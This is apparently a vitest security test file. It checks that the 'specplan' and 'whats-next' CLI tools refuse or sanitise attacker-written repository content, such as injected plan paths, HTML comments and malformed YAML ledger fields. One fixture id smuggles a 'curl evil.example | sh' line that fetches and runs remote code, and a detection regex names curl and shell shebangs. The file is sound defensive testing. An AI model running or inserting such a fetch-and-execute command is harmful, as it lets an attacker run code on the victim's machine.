import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAll, isCleanError, run, type Built } from '../support/hardening-helpers.js';
import { CONTROL, markdownShape, unsafeLinks, plan, tempRepo, writeFile, type TempRepo } from '../support/security-render-support.js';

const SECTIONS = ["What's Next", 'Completed Since Last Update', 'In Progress', 'Recommended Next', 'Reasoning', 'Outstanding Questions', 'Portfolio'];
const INJECTED = /^\s*(#!\/bin\/sh|curl |# Injected|## Fake)/m;

let built: Built;
beforeAll(() => {
  built = buildAll();
}, 240_000);

describe('a victim runs the documented commands on a repository an attacker wrote to', () => {
  let t: TempRepo;
  const env = { ...process.env, SPECPLAN_TODAY: '2026-03-20', ANTHROPIC_API_KEY: '', OPENAI_API_KEY: '' };
  const specplan = (...args: string[]) => run(built.specplan, [...args, '--root', t.root], { env, timeoutMs: 60_000 });
  const whatsNext = (...args: string[]) => run(built.whatsNext, [...args, '--root', t.root], { env, timeoutMs: 60_000 });

  beforeAll(() => {
    t = tempRepo(
      {
        'spec/plans/user-auth/README.md': plan({ title: 'User auth', author: '@alex | @eve || x' }),
        'spec/plans/billing/README.md': plan({ title: 'Billing', status: 'approved', approved: '2026-03-02' }),
        'spec/plans/<!-- hidden/README.md': plan({ title: 'Hidden' }),
        'spec/plans/line\n# Injected heading/README.md': plan({ title: 'New line' }),
        'spec/plans/odd-status/README.md': plan({ title: 'Odd', status: '<!-- not a status' }),
        '.specscore/work-items.yaml': [
          'items:',
          '  - { id: T-1, plan: user-auth, step: "1", status: in_progress, updated: 2026-03-10 }',
          '  - { id: "A-1\\n#!/bin/sh\\ncurl evil.example | sh", plan: user-auth, step: "1", status: blocked, updated: 2026-03-11 }',
          '  - { id: B-2, plan: billing, step: "1", status: done, updated: "<!-- swallow" }',
          '',
        ].join('\n'),
      },
      { git: true },
    );
  }, 60_000);
  afterAll(() => t.cleanup());

  it('whats-next refuses the ledger with one clear error naming each bad line, and writes nothing', async () => {
    const r = await whatsNext('--full', '--provider', 'none');
    expect(r.code).toBe(2);
    expect(isCleanError(r)).toBe(true);
    expect(r.stderr).toMatch(/\.specscore\/work-items\.yaml:3: .*expected/);
    expect(r.stderr).not.toMatch(INJECTED);
    expect(existsSync(path.join(t.root, 'spec/plans/WHATS-NEXT.md'))).toBe(false);
  });

  it('status ignores the bad items, warns about them, and prints one line per plan', async () => {
    const r = await specplan('status');
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/work-items\.yaml:3: .*expected/);
    expect(r.stderr).toMatch(/work-items\.yaml:4: .*updated/);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(5);
    expect(r.stdout).not.toMatch(INJECTED);
    for (const l of lines) expect(CONTROL.test(l)).toBe(false);
    expect(markdownShape(r.stdout).html).toEqual([]);
    expect(lines.find((l) => l.startsWith('user-auth:'))).toMatch(/in progress/);
  });

  it('index writes tables that lint accepts and index --check reads back as up to date', async () => {
    expect((await specplan('index')).code).toBe(0);
    const check = await specplan('index', '--check');
    expect(check.code, check.stdout + check.stderr).toBe(0);
    const lint = await specplan('lint', '--format', 'json');
    const diagnostics = (JSON.parse(lint.stdout) as { diagnostics: Array<{ rule: string; file: string; message: string }> }).diagnostics;
    expect(diagnostics.filter((d) => d.rule === 'index/rows' || d.rule === 'feature/plans-table')).toEqual([]);
    expect(diagnostics.filter((d) => d.rule === 'plan/slug').length).toBe(2);
    const index = readFileSync(path.join(t.root, 'spec/plans/README.md'), 'utf8');
    const shape = markdownShape(index);
    expect(shape.html).toEqual([]);
    expect(shape.headings).toEqual(['Plans', 'Recently Closed', 'Outstanding Questions']);
    expect(shape.tableRows.filter((r) => r.length !== 8 && r.length !== 3)).toEqual([]);
    expect(unsafeLinks(shape)).toEqual([]);
  });

  it('with the ledger fixed, whats-next writes a report with only its own sections, HTML and links', async () => {
    writeFile(
      t.root,
      '.specscore/work-items.yaml',
      'items:\n  - { id: T-1, plan: user-auth, step: "1", status: in_progress, updated: 2026-03-10 }\n  - { id: Z-9, plan: "missing-plan", status: todo }\n',
    );
    const r = await whatsNext('--full', '--provider', 'none');
    expect(r.code, r.stderr).toBe(0);
    const text = readFileSync(path.join(t.root, 'spec/plans/WHATS-NEXT.md'), 'utf8');
    const body = text.slice(0, text.lastIndexOf('<!-- whats-next-state'));
    const shape = markdownShape(body);
    expect(shape.html).toEqual([]);
    expect(shape.headings).toEqual(SECTIONS);
    expect(unsafeLinks(shape)).toEqual([]);
    expect(body).not.toMatch(INJECTED);
    expect(markdownShape(text).html).toHaveLength(1);
    const again = await whatsNext('--incremental', '--provider', 'none');
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toMatch(/up to date/);
  });
});
